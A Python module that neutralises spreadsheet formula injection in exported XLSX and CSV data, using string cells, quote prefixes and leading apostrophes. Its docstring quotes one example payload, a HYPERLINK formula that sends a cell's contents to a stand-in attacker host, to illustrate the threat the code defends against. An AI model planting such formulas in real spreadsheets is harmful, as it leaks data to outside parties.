"""Text from people stays text in a spreadsheet: no live formulas (docs/security.md).

Names, report texts, place and organisation names are typed by anyone with Telegram or a phone,
so a walker named ``=HYPERLINK("http://evil.example/?leak="&A1,"x")`` must arrive in Excel or
LibreOffice as those characters, never as a formula.

- XLSX: every ``str`` is written as a string cell (``t="inlineStr"``), whatever it starts with;
  openpyxl would otherwise turn a leading ``=`` into a formula and ``#N/A`` into an error. A string
  that would start a formula when edited also gets the cell style's quote prefix (Excel's own
  mark for a typed apostrophe), so pressing F2 and Enter keeps it text. The value stays verbatim.
- CSV has no types, so a field that a spreadsheet would read as a formula gets a leading
  apostrophe (OWASP's CSV-injection rule): it starts with ``= + - @``, a tab or a carriage return,
  a full-width or small form of those four, or any of them after leading white space or
  invisible characters of any kind.

Numbers and dates are not strings and keep their types (a negative amount stays a number).
"""

from __future__ import annotations

import re
import unicodedata

from openpyxl.cell.cell import Cell as XlsxCell

FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")
"""ASCII ``= + - @``, tab, CR, LF; full-width ＝ ＋ － ＠; small ﹦ ﹢ ﹣ ﹫."""
LEADING_SPACE = " \t\r\n\u00a0\u3000"
ILLEGAL_IN_XML = re.compile(r"[\000-\010\013\014\016-\037]")
"""Control characters XML 1.0 cannot hold (openpyxl refuses them); written as U+FFFD."""


def _blank(character: str) -> bool:
    """White space or an invisible character of any kind: the spaces of every width (U+2000
    to U+200A, U+202F, ...), zero-width ones and the byte-order mark, which a spreadsheet may
    skip before it looks for ``=``."""
    return character in LEADING_SPACE or character.isspace() or unicodedata.category(
        character
    ) in ("Zs", "Cf")


def could_start_formula(text: str) -> bool:
    """Whether a spreadsheet might read ``text`` as a formula when it is typed or imported."""
    for character in text:
        if not _blank(character):
            return character in FORMULA_STARTS
        if character in FORMULA_STARTS:  # tab, CR, LF: a formula start of their own
            return True
    return False


def csv_text(text: str) -> str:
    """A CSV field for a string: an apostrophe before anything that could start a formula."""
    return "'" + text if could_start_formula(text) else text


def set_text(cell: XlsxCell, text: str) -> None:
    """Make ``cell`` a string cell holding ``text`` verbatim (control characters replaced)."""
    cell.value = ILLEGAL_IN_XML.sub("\ufffd", text)
    cell.data_type = "s"
    if could_start_formula(text):
        cell.quotePrefix = True
